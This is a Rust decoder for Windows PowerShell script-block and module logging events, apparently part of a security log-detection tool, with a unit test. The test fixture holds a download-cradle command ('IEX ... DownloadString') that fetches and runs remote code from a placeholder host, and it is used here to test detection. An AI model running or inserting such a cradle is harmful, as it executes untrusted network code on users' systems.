//! PowerShell (Microsoft-Windows-PowerShell/Operational): script block logging (4104) and
//! module logging (4103). Code PowerShell ran is a `process-started` event with the code in
//! `process.command_line`, so the rules that look at command lines (encoded commands,
//! download cradles, credential dumpers) read a script like an executed command line.
//! Outcome unknown: the event is written when the code is compiled or invoked, not when it
//! finished.

use logward_core::{Action, Event, Outcome};

use super::{set, text, WinRecord};

pub(super) fn decode<'r>(rec: &'r WinRecord, e: &mut Event<'r>) {
    let code = match rec.event_id {
        // ScriptBlockText (a long script comes in parts: MessageNumber of MessageTotal,
        // one event each; ScriptBlockId ties them).
        4104 => "ScriptBlockText",
        // Payload: the pipeline's command invocations and parameter bindings.
        4103 => "Payload",
        _ => return,
    };
    set(e, Action::ProcessStarted, Outcome::Unknown);
    e.command_line = text(rec, code);
}

#[cfg(test)]
mod tests {
    use super::super::{decode, WinRecord};
    use logward_core::{Action, Dataset};

    #[test]
    fn script_blocks_are_commands() {
        let mut r = WinRecord {
            provider: "Microsoft-Windows-PowerShell".into(),
            event_id: 4104,
            channel: "Microsoft-Windows-PowerShell/Operational".into(),
            ..WinRecord::default()
        };
        r.push_data("MessageNumber", "1".into());
        r.push_data("MessageTotal", "1".into());
        r.push_data(
            "ScriptBlockText",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')".into(),
        );
        let e = decode(&r);
        assert_eq!(e.dataset, Some(Dataset::WindowsPowershell));
        assert_eq!(e.action(), Action::ProcessStarted);
        assert_eq!(
            e.command_line.as_deref(),
            Some("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
        );
        r.event_id = 4105;
        assert_eq!(decode(&r).action, None);
    }
}
